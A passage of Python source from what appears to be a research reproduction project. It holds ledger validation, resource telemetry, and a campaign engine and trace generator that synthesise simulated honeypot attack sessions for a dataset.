    elif head.get("version") != LEDGER_VERSION:
        problems.append(
            f"record 0: unsupported ledger version {head.get('version')!r} "
            f"(expected {LEDGER_VERSION})"
        )
    singletons = {"ledger": 0, "run": 0, "env": 0, "sched": 0, "final": 0}
    task_indexes: List[int] = []
    for i, record in enumerate(records):
        where = f"record {i}"
        if not isinstance(record, dict):
            problems.append(f"{where}: not an object")
            continue
        rtype = record.get("record")
        if rtype not in RECORD_TYPES:
            problems.append(f"{where}: unknown record type {rtype!r}")
            continue
        if rtype in singletons:
            singletons[rtype] += 1
        for field, types in _REQUIRED[rtype].items():
            value = record.get(field)
            if value is None or isinstance(value, bool) \
                    or not isinstance(value, types):
                problems.append(
                    f"{where}: {rtype} field {field!r} missing or not "
                    f"{'/'.join(t.__name__ for t in types)}"
                )
        if rtype == "task":
            index = record.get("index")
            if isinstance(index, int):
                task_indexes.append(index)
            sessions = record.get("sessions")
            if isinstance(sessions, int) and sessions < 0:
                problems.append(f"{where}: task sessions negative")
    for name, count in singletons.items():
        if count > 1:
            problems.append(f"{count} {name!r} records (at most one allowed)")
    if task_indexes != sorted(set(task_indexes)):
        problems.append("task rows not unique/ascending by index")
    final_positions = [i for i, r in enumerate(records)
                       if isinstance(r, dict) and r.get("record") == "final"]
    if final_positions and final_positions[0] != len(records) - 1:
        problems.append("'final' record is not last")
    return problems


# -- the current ledger --------------------------------------------------------
#
# ``None`` means no ledger is being kept — the steady state.  Pipeline
# hooks call :func:`get_ledger` and test for None, mirroring the tracer's
# module-global seam.

_LEDGER: Optional[RunLedger] = None


def get_ledger() -> Optional[RunLedger]:
    """The ledger the current run records into (None = no ledger)."""
    return _LEDGER


def set_ledger(ledger: Optional[RunLedger]) -> Optional[RunLedger]:
    """Install ``ledger`` (or disable recording with None). Returns it."""
    global _LEDGER
    _LEDGER = ledger
    return ledger


@contextmanager
def use_ledger(ledger: Optional[RunLedger]) -> Iterator[Optional[RunLedger]]:
    """Swap ``ledger`` in for the scope (None silences recording)."""
    global _LEDGER
    previous = _LEDGER
    _LEDGER = ledger
    try:
        yield ledger
    finally:
        _LEDGER = previous


__all__ = [
    "LEDGER_VERSION",
    "RECORD_TYPES",
    "VOLATILE_FIELDS",
    "VOLATILE_RECORDS",
    "RunLedger",
    "get_ledger",
    "read_ledger_jsonl",
    "set_ledger",
    "sha256_file",
    "strip_volatile_records",
    "use_ledger",
    "validate_ledger",
]
