"""Cross-process resource telemetry: per-task samplers, worker heartbeats.

The paper's honeyfarm ran unattended for fifteen months; what made its
dataset defensible was the operators' ability to account, per collection
window, for what each machine did and which were healthy while it ran.
This module is the in-process half of that story, stdlib-only:

* :class:`ResourceSampler` — a context manager each scheduler worker
  wraps around one :class:`~repro.sched.trace.ShardTask`: CPU time
  (``resource.getrusage`` deltas), peak RSS, GC collections and the
  wall time spent inside them (``gc.callbacks``), and optionally
  ``tracemalloc`` peaks.  The resulting dict rides home on
  :class:`~repro.sched.backends.TaskOutcome.telemetry` and lands in the
  run ledger (:mod:`repro.obs.ledger`) and the ``resource.*``
  histograms.
* :func:`worker_heartbeat` — the periodic liveness payload a worker
  ships through its existing result pipe (pool queue message, spool
  file) so the scheduler can surface a stuck worker *before* the stall
  guard fires, and ``python -m repro top`` can draw per-worker rows.

Everything here reads physical clocks and kernel accounting, which is
exactly why the ledger and the trace-invariance tests declare these
fields volatile: telemetry describes the run, never the output.
"""

from __future__ import annotations

import gc
import os
import sys
from typing import Any, Dict, List, Optional

from repro.obs.metrics import Stopwatch

try:  # pragma: no cover - absent only on niche platforms
    import resource as _resource
except ImportError:  # pragma: no cover
    _resource = None  # type: ignore[assignment]

#: Schema version stamped into every telemetry dict.
TELEMETRY_VERSION = 1

#: Fields a completed sampler reports (plus ``tracemalloc_peak_kb`` when
#: tracemalloc sampling was requested).  All are per-task deltas except
#: ``max_rss_kb``, a process-lifetime high-water mark (``ru_maxrss`` does
#: not reset between tasks — a ceiling, not an exact per-task figure).
TELEMETRY_FIELDS = (
    "wall_seconds",
    "cpu_user_seconds",
    "cpu_system_seconds",
    "cpu_seconds",
    "max_rss_kb",
    "gc_collections",
    "gc_pause_seconds",
)

#: Keys of a :func:`worker_heartbeat` payload.  ``beat`` is a per-worker
#: monotonic counter — receivers dedupe on it, so re-reading a spool
#: heartbeat file or re-draining a queue never double-counts.
HEARTBEAT_FIELDS = (
    "worker",
    "beat",
    "state",
    "last_index",
    "tasks_done",
    "sessions_done",
    "rss_kb",
)


def _page_size() -> int:
    try:
        return os.sysconf("SC_PAGE_SIZE")
    except (ValueError, OSError, AttributeError):  # pragma: no cover
        return 4096


def peak_rss_kb() -> int:
    """Process-lifetime peak resident set size in KiB (0 when unknown).

    ``ru_maxrss`` is KiB on Linux and bytes on macOS; normalised here.
    """
    if _resource is None:  # pragma: no cover
        return 0
    peak = int(_resource.getrusage(_resource.RUSAGE_SELF).ru_maxrss)
    if sys.platform == "darwin":  # pragma: no cover - linux container
        peak //= 1024
    return max(0, peak)


def current_rss_kb() -> int:
    """Resident set size right now, in KiB.

    Reads ``/proc/self/statm`` where available (Linux); elsewhere falls
    back to the lifetime peak, which is the best stdlib answer without a
    platform-specific dependency.
    """
    try:
        with open("/proc/self/statm", "r", encoding="ascii") as fh:
            rss_pages = int(fh.read().split()[1])
        return rss_pages * _page_size() // 1024
    except (OSError, ValueError, IndexError):  # pragma: no cover - non-linux
        return peak_rss_kb()


class ResourceSampler:
    """CPU / RSS / GC accounting around one unit of work.

    Use as a context manager::

        with ResourceSampler() as sampler:
            store, metrics, events = _emit_task(...)
        outcome.telemetry = sampler.to_dict()

    GC pauses are measured by registering a ``gc.callbacks`` hook for the
    sampler's lifetime: the "start" phase opens a stopwatch, "stop"
    closes it and accumulates.  Samplers nest safely (each hook only
    accounts its own window) and the hook is always removed on exit.

    ``trace_malloc=True`` additionally runs :mod:`tracemalloc` across the
    window and reports the traced peak — allocation-exact but expensive,
    so it is opt-in and never on the default task path.
    """

    def __init__(self, trace_malloc: bool = False) -> None:
        self.trace_malloc = bool(trace_malloc)
        self.gc_collections = 0
        self.gc_pause_seconds = 0.0
        self._watch: Optional[Stopwatch] = None
        self._gc_watch: Optional[Stopwatch] = None
        self._ru0: Any = None
        self._ru1: Any = None
        self._tracemalloc_peak_kb: Optional[int] = None
        self._started_tracemalloc = False

    # -- gc hook ---------------------------------------------------------------

    def _on_gc(self, phase: str, info: Dict[str, Any]) -> None:
        if phase == "start":
            self._gc_watch = Stopwatch()
        elif phase == "stop" and self._gc_watch is not None:
            self.gc_collections += 1
            self.gc_pause_seconds += self._gc_watch.elapsed()
            self._gc_watch = None

    # -- context ---------------------------------------------------------------

    def __enter__(self) -> "ResourceSampler":
        self._watch = Stopwatch()
        if _resource is not None:
            self._ru0 = _resource.getrusage(_resource.RUSAGE_SELF)
        gc.callbacks.append(self._on_gc)
        if self.trace_malloc:
            import tracemalloc

            if not tracemalloc.is_tracing():
                tracemalloc.start()
                self._started_tracemalloc = True
        return self

    def __exit__(self, *exc: Any) -> None:
        try:
            gc.callbacks.remove(self._on_gc)
        except ValueError:  # pragma: no cover - someone cleared the list
            pass
        if _resource is not None:
            self._ru1 = _resource.getrusage(_resource.RUSAGE_SELF)
        if self.trace_malloc:
            import tracemalloc

            if tracemalloc.is_tracing():
                _, peak = tracemalloc.get_traced_memory()
                self._tracemalloc_peak_kb = int(peak) // 1024
                if self._started_tracemalloc:
                    tracemalloc.stop()

    # -- results ---------------------------------------------------------------

    @property
    def wall_seconds(self) -> float:
        return self._watch.elapsed() if self._watch is not None else 0.0

    def to_dict(self) -> Dict[str, Any]:
        """The telemetry payload (:data:`TELEMETRY_FIELDS`), JSON-ready."""
        user = system = 0.0
        if self._ru0 is not None and self._ru1 is not None:
            user = max(0.0, self._ru1.ru_utime - self._ru0.ru_utime)
            system = max(0.0, self._ru1.ru_stime - self._ru0.ru_stime)
        out: Dict[str, Any] = {
            "telemetry_version": TELEMETRY_VERSION,
            "wall_seconds": self.wall_seconds,
            "cpu_user_seconds": user,
            "cpu_system_seconds": system,
            "cpu_seconds": user + system,
            "max_rss_kb": peak_rss_kb(),
            "gc_collections": self.gc_collections,
            "gc_pause_seconds": self.gc_pause_seconds,
        }
        if self._tracemalloc_peak_kb is not None:
            out["tracemalloc_peak_kb"] = self._tracemalloc_peak_kb
        return out


def worker_heartbeat(
    worker: str,
    beat: int,
    state: str = "run",
    last_index: Optional[int] = None,
    tasks_done: int = 0,
    sessions_done: int = 0,
) -> Dict[str, Any]:
    """One heartbeat payload (:data:`HEARTBEAT_FIELDS`) for ``worker``.

    ``sessions_done`` is cumulative, so a dashboard can derive a
    sessions/s rate from two consecutive beats without any event other
    than the heartbeat itself.
    """
    return {
        "worker": str(worker),
        "beat": int(beat),
        "state": str(state),
        "last_index": last_index,
        "tasks_done": int(tasks_done),
        "sessions_done": int(sessions_done),
        "rss_kb": current_rss_kb(),
    }


def validate_heartbeat(payload: Dict[str, Any]) -> List[str]:
    """Check one heartbeat payload; returns problem strings (empty = ok)."""
    problems: List[str] = []
    if not isinstance(payload, dict):
        return ["heartbeat is not an object"]
    for field in HEARTBEAT_FIELDS:
        if field not in payload:
            problems.append(f"heartbeat missing field {field!r}")
    if not isinstance(payload.get("worker"), str):
        problems.append("heartbeat field 'worker' not a string")
    for field in ("beat", "tasks_done", "sessions_done", "rss_kb"):
        value = payload.get(field)
        if isinstance(value, bool) or not isinstance(value, int):
            problems.append(f"heartbeat field {field!r} not an int")
    return problems


__all__ = [
    "HEARTBEAT_FIELDS",
    "TELEMETRY_FIELDS",
    "TELEMETRY_VERSION",
    "ResourceSampler",
    "current_rss_kb",
    "peak_rss_kb",
    "validate_heartbeat",
    "worker_heartbeat",
]
