"""Campaign realisation and session emission.

Takes full-scale :class:`~repro.agents.campaigns.CampaignSpec`s, scales them
to the scenario, recruits client pools from the population, profiles each
campaign's script through the real honeypot shell, registers hashes with
the threat-intel database, and emits the campaign's sessions.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.agents.campaigns import CampaignSpec
from repro.agents.population import ClientPopulation, ClientRole
from repro.agents.scripts import ScriptKind, build_script
from repro.geo.continents import continent_of
from repro.intel.database import IntelDatabase
from repro.obs import inc as _metric_inc
from repro.obs.trace import emit_block as _trace_block
from repro.simulation.rng import RngStream
from repro.workload.config import ScenarioConfig
from repro.workload.emit import SessionEmitter
from repro.workload.samplers import cmd_fields, protocol_array
from repro.workload.script_runner import ScriptProfile, ScriptRunner
from repro.workload.targets import TargetSet, build_subset, subset_selector

SECONDS_PER_DAY = 86_400

#: Script kinds that produce CMD+URI sessions (remote fetches).
URI_KINDS = (ScriptKind.DROPPER, ScriptKind.MINER)


@dataclass
class RealizedCampaign:
    """A campaign scaled to the scenario and ready to emit."""

    spec: CampaignSpec
    profile: ScriptProfile
    script_id: int
    hash_ids: Tuple[int, ...]
    pool: np.ndarray  # population client indices
    pool_weights: np.ndarray
    selector: TargetSet
    pot_subset: np.ndarray
    schedule: Dict[int, int] = field(default_factory=dict)
    password_id: int = -1
    #: day -> indices into `pool` of the members active that day. Bots
    #: rotate: most members participate in a short burst of the campaign,
    #: which keeps per-IP active-day counts low (paper Fig 13).
    members_by_day: Dict[int, np.ndarray] = field(default_factory=dict)

    @property
    def category(self) -> str:
        return "CMD_URI" if self.spec.kind in URI_KINDS else "CMD"

    @property
    def total_sessions(self) -> int:
        return sum(self.schedule.values())


class CampaignEngine:
    """Realises and emits campaigns against the shared builder."""

    def __init__(
        self,
        config: ScenarioConfig,
        rng: RngStream,
        population: ClientPopulation,
        emitter: SessionEmitter,
        runner: ScriptRunner,
        intel: IntelDatabase,
        hash_weights: np.ndarray,
        session_weights: np.ndarray,
        pot_countries: List[str],
    ):
        self.config = config
        self.rng = rng
        self.population = population
        self.emitter = emitter
        self.runner = runner
        self.intel = intel
        self.hash_weights = hash_weights
        self.session_weights = session_weights
        self.pot_countries = pot_countries
        self.pot_continents = [continent_of(cc) for cc in pot_countries]
        self.n_pots = len(pot_countries)
        self._group_subsets: Dict[str, np.ndarray] = {}
        self._shared_pools: Dict[str, np.ndarray] = {}
        self._locality_cache: Dict[
            str, Tuple[Dict[object, np.ndarray], Dict[str, np.ndarray]]
        ] = {}
        self._locality_csr: Dict[str, Tuple[np.ndarray, ...]] = {}

    # -- realisation ------------------------------------------------------------

    def realize(self, spec: CampaignSpec) -> Optional[RealizedCampaign]:
        """Scale and materialise one campaign; None if it rounds to nothing."""
        rng = self.rng.child(f"campaign.{spec.campaign_id}")
        active_days = self._active_days(spec, rng)
        if not active_days:
            return None
        # Floor the scaled session count so a campaign can plausibly cover
        # its honeypot subset even at small scales (without the floor,
        # broad campaigns collapse to single-pot hashes and the Figure 18
        # pot-coverage distribution loses its head).
        subset_floor = 0 if spec.n_honeypots <= 0 else spec.n_honeypots // 2
        n_sessions = max(
            len(active_days),
            subset_floor,
            int(round(spec.sessions * self.config.scale)),
        )
        n_clients = self._scaled_clients(spec)

        pool = self._recruit_pool(spec, rng, n_clients)
        if len(pool) == 0:
            return None
        pool_weights = np.array(
            [rng.lognormal(0.0, 1.0) for _ in range(len(pool))], dtype=float
        )

        pot_subset = self._pot_subset(spec, rng)
        selector = subset_selector(pot_subset, self.session_weights)

        host_octet = (zlib.crc32(spec.campaign_id.encode()) % 200) + 10
        profile = self.runner.profile(
            build_script(
                spec.kind,
                token=spec.campaign_id,
                dropper_host=f"198.51.100.{host_octet}",
            )
        )
        script_id = self.emitter.builder.intern_script(profile.commands, profile.uris)
        hash_ids = tuple(self.emitter.builder.hashes.intern(h) for h in profile.hashes)

        if spec.in_intel_db:
            for h in profile.hashes:
                self.intel.register(
                    h, spec.tag, family=spec.campaign_id,
                    first_submission_day=active_days[0],
                    detections=5 + (zlib.crc32(h.encode()) % 40),
                )

        schedule = self._schedule(rng, active_days, n_sessions)
        if self.config.rotate_campaign_members:
            members_by_day = self._rotate_members(
                rng.child("rotation"), sorted(schedule), len(pool)
            )
        else:
            everyone = np.arange(len(pool))
            members_by_day = {day: everyone for day in schedule}
        password_id = (
            self.emitter.builder.passwords.intern(spec.password)
            if spec.password
            else -1
        )
        _metric_inc("generator.campaigns_realized")
        return RealizedCampaign(
            spec=spec,
            profile=profile,
            script_id=script_id,
            hash_ids=hash_ids,
            pool=pool,
            pool_weights=pool_weights,
            selector=selector,
            pot_subset=pot_subset,
            schedule=schedule,
            password_id=password_id,
            members_by_day=members_by_day,
        )

    @staticmethod
    def _rotate_members(
        rng: RngStream, days: List[int], pool_size: int
    ) -> Dict[int, np.ndarray]:
        """Assign each pool member a short consecutive burst of days.

        Small pools (or short campaigns) keep every member active every
        day — the few-IP long-lived campaigns of Table 6 really do use the
        same addresses for months.
        """
        if pool_size <= 6 or len(days) <= 3:
            everyone = np.arange(pool_size)
            return {day: everyone for day in days}
        members_by_day: Dict[int, List[int]] = {day: [] for day in days}
        for member in range(pool_size):
            burst = min(len(days), rng.geometric(0.45))
            start = rng.randint(0, len(days) - burst + 1)
            for offset in range(burst):
                members_by_day[days[start + offset]].append(member)
        everyone = np.arange(pool_size)
        return {
            day: (np.asarray(members, dtype=np.int64) if members else everyone)
            for day, members in members_by_day.items()
        }

    def _active_days(self, spec: CampaignSpec, rng: RngStream) -> List[int]:
        n_days_window = self.config.n_days
        start = min(max(spec.start_day, 0), n_days_window - 1)
        span = min(spec.span_days, n_days_window - start)
        n_active = min(spec.n_active_days, span)
        if n_active <= 0:
            return []
        if not spec.intermittent or n_active >= span:
            return list(range(start, start + n_active))
        # Intermittent campaigns run in bursts separated by long pauses
        # ("some attacks are active for some time, then pause and
        # restart") — the pauses are what the 7/30-day freshness windows
        # of Figure 17 react to.
        n_bursts = max(2, min(5, 1 + rng.randint(1, 5)))
        n_bursts = min(n_bursts, n_active)
        burst_sizes = np.ones(n_bursts, dtype=np.int64)
        burst_sizes += rng.multinomial(n_active - n_bursts, np.ones(n_bursts))
        slack = span - n_active
        gaps = rng.multinomial(max(slack, 0), np.ones(n_bursts))
        days: List[int] = []
        cursor = start
        for size, gap in zip(burst_sizes, gaps):
            days.extend(range(cursor, cursor + int(size)))
            cursor += int(size) + int(gap)
        days = [d for d in days if d < n_days_window]
        return sorted(set(days))

    def _scaled_clients(self, spec: CampaignSpec) -> int:
        if spec.n_clients <= 10:
            return spec.n_clients
        scaled = int(round(spec.n_clients * self.config.ip_scale))
        return max(3, scaled)

    def _recruit_pool(
        self, spec: CampaignSpec, rng: RngStream, n_clients: int
    ) -> np.ndarray:
        # Marquee URI campaigns draw from the small dedicated CMD+URI
        # population; the URI mid-tail recruits from the broad intruder
        # pool so no single client accumulates hundreds of active days.
        role = (
            ClientRole.CMDURI
            if spec.kind in URI_KINDS and spec.dedicated_uri_pool
            else ClientRole.CMD
        )
        if spec.client_pool:
            shared = self._shared_pools.get(spec.client_pool)
            if shared is None or len(shared) < n_clients:
                shared = self.population.sample_intruders(
                    rng.child("pool"),
                    max(n_clients, len(shared) if shared is not None else 0),
                    role=role,
                    countries=spec.countries,
                )
                self._shared_pools[spec.client_pool] = shared
            return shared[:n_clients]
        return self.population.sample_intruders(
            rng.child("pool"), n_clients, role=role, countries=spec.countries
        )

    def _pot_subset(self, spec: CampaignSpec, rng: RngStream) -> np.ndarray:
        size = spec.n_honeypots if spec.n_honeypots > 0 else self.n_pots
        size = min(size, self.n_pots)
        if spec.pot_group:
            group = self._group_subsets.get(spec.pot_group)
            if group is None or len(group) < size:
                group = build_subset(
                    rng.child("pots"), self.n_pots,
                    max(size, len(group) if group is not None else 0),
                    self.hash_weights,
                )
                self._group_subsets[spec.pot_group] = group
            return group[:size]
        return build_subset(rng.child("pots"), self.n_pots, size, self.hash_weights)

    def _schedule(
        self, rng: RngStream, active_days: List[int], n_sessions: int
    ) -> Dict[int, int]:
        n_days = len(active_days)
        if n_sessions < n_days:
            active_days = active_days[:n_sessions]
            n_days = n_sessions
        counts = np.ones(n_days, dtype=np.int64)
        remainder = n_sessions - n_days
        if remainder > 0:
            weights = np.array(
                [rng.lognormal(0.0, 0.8) for _ in range(n_days)], dtype=float
            )
            counts += rng.multinomial(remainder, weights)
        return {day: int(count) for day, count in zip(active_days, counts)}

    # -- emission ----------------------------------------------------------------

    def emit(self, campaign: RealizedCampaign) -> int:
        """Emit all sessions for one realised campaign. Returns the count."""
        rng = self.rng.child(f"emit.{campaign.spec.campaign_id}")
        emitted = 0
        for day, n in sorted(campaign.schedule.items()):
            emitted += self.emit_day(campaign, day, n, rng)
        return emitted

    def emit_campaign_day(
        self, campaign: RealizedCampaign, day: int, n: int
    ) -> int:
        """Sharded-path emission of one campaign day from its own stream."""
        rng = self.rng.child(f"emit.{campaign.spec.campaign_id}.d{day}")
        return self.emit_day(campaign, day, n, rng)

    def emit_day(
        self, campaign: RealizedCampaign, day: int, n: int, rng: RngStream
    ) -> int:
        """Emit one day of a campaign. Returns the session count (== ``n``)."""
        pop = self.population
        is_uri = campaign.spec.kind in URI_KINDS
        pool = campaign.pool

        members = campaign.members_by_day.get(day)
        if members is None or len(members) == 0:
            members = np.arange(len(pool))
        weights = campaign.pool_weights[members]
        counts = rng.multinomial(n, weights / weights.sum())
        active = np.nonzero(counts)[0]
        clients = np.repeat(pool[members[active]], counts[active])
        m = len(clients)
        if m == 0:
            return 0

        start = day * SECONDS_PER_DAY + rng.uniform_array(0, SECONDS_PER_DAY, m)
        protocol = protocol_array(rng, m, campaign.spec.ssh_share)
        exec_seconds = np.full(m, campaign.profile.exec_seconds)
        duration, close, attempts = cmd_fields(rng, m, exec_seconds)

        pots = self._choose_pots(rng, campaign, clients, m, is_uri)

        if campaign.password_id >= 0:
            password = np.full(m, campaign.password_id, dtype=np.int32)
        else:
            password = self.emitter.success_passwords(rng, m)
        username = np.full(m, self.emitter.root_id, dtype=np.int32)
        versions = self.emitter.client_versions(rng, m, protocol)

        self.emitter.append_block(
            start_time=start,
            duration=duration,
            honeypot=pots,
            protocol=protocol,
            client_ip=pop.ip[clients],
            client_asn=pop.asn[clients],
            client_country=pop.country[clients].astype(np.int32),
            n_attempts=attempts,
            login_success=np.ones(m, dtype=bool),
            script_id=np.full(m, campaign.script_id, dtype=np.int32),
            password_id=password,
            username_id=username,
            hash_ids=campaign.hash_ids,
            close_reason=close,
            version_id=versions,
        )
        _metric_inc(f"generator.sessions.{campaign.category}", m)
        _metric_inc("generator.campaign_days")
        _metric_inc("generator.campaign_sessions", m)
        _trace_block(f"emit.{campaign.spec.campaign_id}", day, m,
                     campaign=campaign.spec.campaign_id,
                     session_kind=campaign.category)
        return m

    def _locality_subsets(
        self, campaign: RealizedCampaign
    ) -> Tuple[Dict[object, np.ndarray], Dict[str, np.ndarray]]:
        """Campaign pot subset grouped by continent and country (cached).

        The grouping is a pure function of the campaign's fixed pot subset,
        so computing it once per campaign instead of once per emitted day
        consumes no extra randomness.
        """
        cached = self._locality_cache.get(campaign.spec.campaign_id)
        if cached is not None:
            return cached
        by_continent: Dict[object, np.ndarray] = {}
        # dict.fromkeys dedups in first-occurrence order — set iteration
        # order here would leak the hash seed into dict insertion order.
        for continent in dict.fromkeys(self.pot_continents):
            by_continent[continent] = np.array(
                [p for p in campaign.pot_subset
                 if self.pot_continents[p] is continent],
                dtype=np.int32,
            )
        by_country: Dict[str, np.ndarray] = {}
        for country in dict.fromkeys(self.pot_countries):
            by_country[country] = np.array(
                [p for p in campaign.pot_subset
                 if self.pot_countries[p] == country],
                dtype=np.int32,
            )
        cached = (by_continent, by_country)
        self._locality_cache[campaign.spec.campaign_id] = cached
        return cached

    def _locality_pools(self, campaign: RealizedCampaign) -> Tuple[np.ndarray, ...]:
        """CSR locality pools per *population* country index.

        ``(flat, c_off, c_len, k_off, k_len)``: for a client from country
        index ``i``, the campaign subset's same-country pots are
        ``flat[c_off[i]:c_off[i]+c_len[i]]`` and its same-continent pots
        ``flat[k_off[i]:k_off[i]+k_len[i]]``.  Derived purely from the
        cached :meth:`_locality_subsets` grouping — consumes no RNG.
        """
        cached = self._locality_csr.get(campaign.spec.campaign_id)
        if cached is not None:
            return cached
        by_continent, by_country = self._locality_subsets(campaign)
        codes = self.population.country_codes
        n = len(codes)
        flat_parts = []
        c_off = np.zeros(n, np.int64)
        c_len = np.zeros(n, np.int64)
        k_off = np.zeros(n, np.int64)
        k_len = np.zeros(n, np.int64)
        pos = 0
        for i, cc in enumerate(codes):
            pool = by_country.get(cc)
            if pool is not None and len(pool):
                c_off[i] = pos
                c_len[i] = len(pool)
                flat_parts.append(pool)
                pos += len(pool)
        for i, cc in enumerate(codes):
            pool = by_continent.get(continent_of(cc))
            if pool is not None and len(pool):
                k_off[i] = pos
                k_len[i] = len(pool)
                flat_parts.append(pool)
                pos += len(pool)
        flat = np.concatenate(flat_parts) if flat_parts else np.zeros(0, np.int32)
        cached = (flat, c_off, c_len, k_off, k_len)
        self._locality_csr[campaign.spec.campaign_id] = cached
        return cached

    def _choose_pots(
        self,
        rng: RngStream,
        campaign: RealizedCampaign,
        clients: np.ndarray,
        m: int,
        locality_bias: bool,
    ) -> np.ndarray:
        """Per-session pot selection, with a locality bias for URI kinds.

        CMD+URI sessions originate markedly closer to their targets in the
        paper (Fig 16b); with probability 0.45 a URI session is redirected
        to a pot on the client's own continent when the campaign's subset
        has one.
        """
        u = rng.random_array(m)
        pots = campaign.selector.choose_many(u).astype(np.int32, copy=True)
        bias = self.config.uri_locality_bias
        if not locality_bias or bias <= 0:
            return pots
        redirect = rng.random_array(m)
        hit = np.flatnonzero(redirect < bias)
        if hit.size == 0:
            return pots
        # One batched varying-bound draw covers every redirected session;
        # numpy's bounded-integer sampler makes it bit-identical to the
        # scalar per-session randint loop this replaced.
        flat, c_off, c_len, k_off, k_len = self._locality_pools(campaign)
        ci = self.population.country[clients[hit]].astype(np.int64)
        use_country = (redirect[hit] < 0.4 * bias) & (c_len[ci] > 0)
        bounds = np.where(use_country, c_len[ci], k_len[ci])
        offs = np.where(use_country, c_off[ci], k_off[ci])
        drawable = bounds > 0
        if drawable.any():
            picks = rng.randint_array(0, bounds[drawable])
            pots[hit[drawable]] = flat[offs[drawable] + picks]
        return pots
