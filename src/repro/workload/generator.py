"""The 15-month trace generator.

Orchestrates deployment, population, campaigns and background traffic into
one :class:`~repro.workload.dataset.HoneyfarmDataset`:

1. build the farm (221 pots / 55 countries / 65 ASes) and the synthetic geo
   registry;
2. build the client population (roles, lifetimes, breadth, country mix) and
   per-client honeypot target sets;
3. realise the attack campaigns (marquee + mid-tail), profiling each script
   through the real honeypot shell, and emit their sessions;
4. emit background traffic per category (scanning, scouting, NO_CMD
   including the Russian-datacenter prefix, recon-only CMD, uncatalogued
   CMD+URI droppers and singleton file writers) following the calibrated
   daily envelopes;
5. freeze the columnar store.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.agents.campaigns import marquee_campaigns, midtail_campaigns
from repro.agents.population import (
    ClientPopulation,
    ClientRole,
    PopulationConfig,
    build_population,
)
from repro.agents.scripts import ScriptKind, build_script
from repro.farm.deployment import DeploymentPlan, build_default_deployment
from repro.geo.registry import GeoRegistry, NetworkType
from repro.intel.database import IntelDatabase
from repro.obs import get_metrics, inc as _metric_inc
from repro.obs import trace as _trace
from repro.obs.trace import emit_block as _trace_block
from repro.simulation.rng import RngStream
from repro.store.store import StoreBuilder
from repro.workload.blocks import make_emitter
from repro.workload.campaign_engine import CampaignEngine, RealizedCampaign, URI_KINDS
from repro.workload.config import SSH_SHARE, ScenarioConfig
from repro.workload.dataset import CampaignRuntime, HoneyfarmDataset
from repro.workload.samplers import (
    cmd_fields,
    fail_log_fields,
    no_cmd_fields,
    no_cred_fields,
    protocol_array,
)
from repro.workload.script_runner import ScriptRunner
from repro.workload.targets import TargetIndex, TargetSet
from repro.workload.temporal import (
    build_envelopes,
    honeypot_weight_vectors,
    ru_edge_weight,
    sample_active_days,
)

SECONDS_PER_DAY = 86_400

_ROLE_CATEGORY = [
    (ClientRole.SCAN, "NO_CRED"),
    (ClientRole.SCOUT, "FAIL_LOG"),
    (ClientRole.NOCMD, "NO_CMD"),
    (ClientRole.CMD, "CMD"),
    (ClientRole.CMDURI, "CMD_URI"),
]


def _rescale_schedule(schedule: Dict[int, int], factor: float) -> Dict[int, int]:
    """Scale a campaign's per-day session counts by ``factor``.

    Days that round to zero are dropped, but the campaign keeps at least
    its start day with one session, so realised campaigns never vanish.
    """
    if factor >= 1.0:
        return schedule
    new_total = max(1, int(round(sum(schedule.values()) * factor)))
    days = sorted(schedule)
    if new_total <= len(days):
        return {day: 1 for day in days[:new_total]}
    scaled = {day: int(schedule[day] * factor) for day in days}
    out = {day: max(1, count) for day, count in scaled.items()}
    # Trim rounding surplus from the largest days.
    surplus = sum(out.values()) - new_total
    for day in sorted(out, key=lambda d: -out[d]):
        if surplus <= 0:
            break
        removable = min(surplus, out[day] - 1)
        out[day] -= removable
        surplus -= removable
    return out


def _daily_budgets(total: int, envelope: np.ndarray) -> np.ndarray:
    """Integer daily budgets summing exactly to ``total`` (largest remainder)."""
    raw = envelope * total
    floors = np.floor(raw).astype(np.int64)
    remainder = int(total - floors.sum())
    if remainder > 0:
        order = np.argsort(-(raw - floors))
        floors[order[:remainder]] += 1
    return floors


class _RuPrefixClients:
    """The Russian-datacenter prefix behind most edge-period NO_CMD traffic."""

    def __init__(self, registry: GeoRegistry, rng: RngStream, count: int,
                 country_index: int):
        record = registry.register_as(
            country="RU", network_type=NetworkType.DATACENTER, name="RU-DC-NOCMD"
        )
        pool = record.pool()
        self.ips = np.array([pool.sample(rng) for _ in range(count)], dtype=np.uint32)
        self.asn = record.asn
        self.country_index = country_index
        self.rates = np.array([rng.lognormal(0.0, 0.6) for _ in range(count)])
        self.rates /= self.rates.sum()


class TraceGenerator:
    """Stateful generator for one scenario run."""

    def __init__(self, config: ScenarioConfig):
        self.config = config
        self.rng = RngStream(config.seed, "workload")
        self.registry = GeoRegistry()
        self.deployment: DeploymentPlan = build_default_deployment(
            self.rng.child("deployment"), self.registry
        )
        self.pot_countries = [site.country for site in self.deployment.sites]
        self.n_pots = len(self.deployment.sites)

        self.builder = StoreBuilder()
        # Intern honeypots in site order so store index == deployment index.
        for site in self.deployment.sites:
            self.builder.honeypots.intern(site.honeypot_id)

        self.envelopes = build_envelopes(self.rng.child("envelopes"), config.n_days)
        self.population = build_population(
            PopulationConfig(n_clients=config.n_clients,
                             n_always_on=max(4, int(120 * config.ip_scale))),
            self.registry,
            self.rng.child("population"),
        )
        # Intern client countries so store ids == population country indices.
        for code in self.population.country_codes:
            self.builder.countries.intern(code)

        self.emitter = make_emitter(self.builder, self.rng.child("emitter"))
        session_w, client_w, hash_w = honeypot_weight_vectors(
            self.rng.child("potweights"), self.n_pots
        )
        if not config.decorrelate_pot_weights:
            # Ablation: one attractiveness vector drives everything, so
            # the "top pots differ per metric" findings disappear.
            client_w = session_w
            hash_w = session_w
        self.session_weights = session_w
        self.client_weights = client_w
        self.hash_weights = hash_w
        self.target_index = TargetIndex(
            self.rng.child("targets"), client_w, session_w, self.pot_countries
        )
        self.targets: List[TargetSet] = self.target_index.build_for(
            self.population.breadth
        )

        self.runner = ScriptRunner()
        self.intel = IntelDatabase()
        self.campaign_hash_weights = hash_w / hash_w.sum()
        self.engine = CampaignEngine(
            config=config,
            rng=self.rng.child("campaigns"),
            population=self.population,
            emitter=self.emitter,
            runner=self.runner,
            intel=self.intel,
            hash_weights=self.campaign_hash_weights,
            session_weights=session_w,
            pot_countries=self.pot_countries,
        )

        self._day_buckets: Dict[str, List[List[int]]] = {}
        self._campaign_sessions = {"CMD": 0, "CMD_URI": 0}
        self.realized: List[RealizedCampaign] = []
